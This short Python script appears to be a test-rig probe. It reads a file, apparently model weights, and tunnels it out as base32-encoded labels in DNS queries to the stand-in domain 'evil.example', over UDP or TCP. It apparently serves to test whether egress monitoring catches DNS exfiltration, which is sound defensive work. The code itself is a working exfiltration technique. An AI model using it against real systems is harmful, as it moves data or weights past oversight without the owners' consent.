"""Takes bytes out in the names that it asks for.

    dns.py udp|tcp
"""

import base64
import socket
import struct
import sys

import stand

QUESTIONS = 400
CHUNK = 100


def question(number: int, data: bytes) -> bytes:
    text = base64.b32encode(data).decode().lower().rstrip("=")
    labels = [text[at : at + 60] for at in range(0, len(text), 60)] + [f"n{number}", "t", "evil", "example"]
    name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    return struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)


def main() -> None:
    stand.wait_for_go()
    data = stand.read_all(stand.MODEL)
    stand.say("read", bytes=len(data))
    sent = 0
    if sys.argv[1] == "tcp":
        with stand.connect(port=stand.DNS) as outlet:
            for number in range(QUESTIONS):
                message = question(number, data[number * CHUNK : (number + 1) * CHUNK])
                outlet.sendall(len(message).to_bytes(2, "big") + message)
                outlet.recv(4096)
                sent += len(message) + 2
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outlet:
            outlet.settimeout(10)
            for number in range(QUESTIONS):
                message = question(number, data[number * CHUNK : (number + 1) * CHUNK])
                sent += outlet.sendto(message, (stand.FAR, stand.DNS))
                outlet.recv(4096)
    stand.say("sent", bytes=sent)


if __name__ == "__main__":
    main()
